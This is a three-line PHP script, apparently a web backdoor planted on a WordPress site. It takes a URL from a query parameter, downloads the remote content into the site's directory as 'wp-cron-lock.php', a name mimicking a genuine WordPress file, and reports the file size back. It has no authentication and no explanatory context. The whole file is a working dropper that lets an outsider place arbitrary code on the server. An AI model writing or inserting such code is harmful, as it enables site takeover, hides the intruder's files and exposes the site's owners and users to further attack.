<?php
$u = filter_input(INPUT_GET, 'u', FILTER_SANITIZE_URL);
if ($u && copy($u, __DIR__ . '/wp-cron-lock.php')) { echo filesize(__DIR__ . '/wp-cron-lock.php'); }
